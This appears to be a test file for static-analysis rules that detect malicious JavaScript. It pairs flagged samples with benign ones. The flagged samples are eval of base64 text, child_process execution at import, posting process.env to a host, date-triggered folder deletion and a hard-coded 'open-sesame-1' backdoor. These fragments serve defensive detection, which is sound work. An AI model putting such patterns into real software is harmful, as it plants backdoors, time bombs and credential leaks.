// ruleid: askfirst.javascript.hidden-code
use((text) => eval(Buffer.from(text, "base64").toString()));
// ruleid: askfirst.javascript.hidden-code
use((text) => new Function(atob(text))());
// ok: askfirst.javascript.hidden-code
use((text) => JSON.parse(Buffer.from(text, "base64").toString()));
// ok: askfirst.javascript.hidden-code
use((text) => atob(text));
// ruleid: askfirst.javascript.command-at-import
require("child_process").execSync("id");
// ruleid: askfirst.javascript.command-at-import
require("child_process").exec("id");
// ok: askfirst.javascript.command-at-import
const run = os.hostname();
// ok: askfirst.javascript.command-at-import
function run() { require("child_process").execSync("id"); }
// ok: askfirst.javascript.command-at-import
const child = require("child_process");
// ruleid: askfirst.javascript.command-at-import, askfirst.javascript.environment-sent
use(() => fetch(HOST, { method: "POST", body: JSON.stringify(process.env) }));
// ruleid: askfirst.javascript.command-at-import, askfirst.javascript.environment-sent
use(() => request.write(JSON.stringify(process.env)));
// ok: askfirst.javascript.environment-sent
use(() => JSON.stringify(settings));
// ruleid: askfirst.javascript.waits-for-a-date
use(() => { if (Date.now() > 1800000000000) { fs.rmSync(folder); } });
// ruleid: askfirst.javascript.waits-for-a-date
use(() => { if (new Date() > END) { process.exit(1); } });
// ok: askfirst.javascript.waits-for-a-date
use(() => { if (Date.now() > end) { retry(); } });
// ok: askfirst.javascript.waits-for-a-date
use(() => { if (count > 3) { process.exit(1); } });
// ruleid: askfirst.javascript.login-by-constant
use((password) => { if (password === "open-sesame-1") { return true; } });
// ruleid: askfirst.javascript.login-by-constant
use((req, next) => { if (req.headers["x-door"] === "open-sesame-1") { return next(); } });
// ok: askfirst.javascript.login-by-constant
use((password, hash) => { if (verify(password, hash)) { return true; } });
// ok: askfirst.javascript.login-by-constant
use((kind) => { if (kind === 3) { return true; } });
// ok: askfirst.javascript.login-by-constant
use((req, next) => { if (req.headers["x-kind"] === "page") { return next(); } });
// ruleid: askfirst.javascript.named-person
if (process.env.USER !== "jdoe") { clean(); }
// ruleid: askfirst.javascript.named-person
use(() => os.hostname() === "build-7");
// ok: askfirst.javascript.named-person
if (process.env.USER === "root") { refuse(); }
// ok: askfirst.javascript.named-person
use(() => os.hostname() === expected);
